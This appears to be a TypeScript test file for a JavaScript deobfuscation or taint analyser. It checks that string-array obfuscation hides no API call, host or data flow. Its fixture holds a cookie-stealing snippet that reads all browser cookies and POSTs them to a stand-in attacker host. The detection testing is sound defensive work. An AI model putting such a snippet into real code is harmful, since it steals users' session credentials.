import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';
import { withStringArray } from '../../../testing/string-array.ts';
import type { StringArrayOptions } from '../../../testing/string-array.ts';

const thief = (word: (text: string) => string): string => `
  const _0xshort = _0x4f1a;
  chrome[${word('cookies')}][${word('getAll')}]({}, _0xc => {
    window[${word('fetch')}](${word('https://drop.attacker.dev/c')}, { method: ${word('POST')}, body: JSON[${word('stringify')}](_0xc) });
  });
  console.log(${word('https://second.attacker.dev/x')}.replace('_0x4f1a', _0xshort));`;

describe('a string array', () => {
  const cases: readonly StringArrayOptions[] = (['none', 'base64', 'rc4'] as const).flatMap(
    (encoding) =>
      (['literal', 'function', 'arrow'] as const).map((array, index) => ({
        encoding,
        array,
        turns: 3 + index,
      })),
  );
  for (const options of cases) {
    const { encoding, array, turns } = options;
    it(`of ${array} form with ${encoding} encoding, turned ${turns} times, hides no call, host or flow`, () => {
      const facts = factsOf(withStringArray(thief, options));
      assert.equal(facts.usesOf('chrome.cookies.getAll').length, 1);
      assert.deepEqual(
        facts.endpoints.map(({ host, method }) => [host, method]),
        [['drop.attacker.dev', 'POST']],
      );
      assert.deepEqual(
        facts.flows.map(({ source, sink, host }) => [source.kind, sink.kind, host]),
        [['cookies', 'network', 'drop.attacker.dev']],
      );
      assert.ok(facts.urls.some(({ host }) => host === 'second.attacker.dev'));
      assert.deepEqual(facts.skipped, []);
    });
  }
});
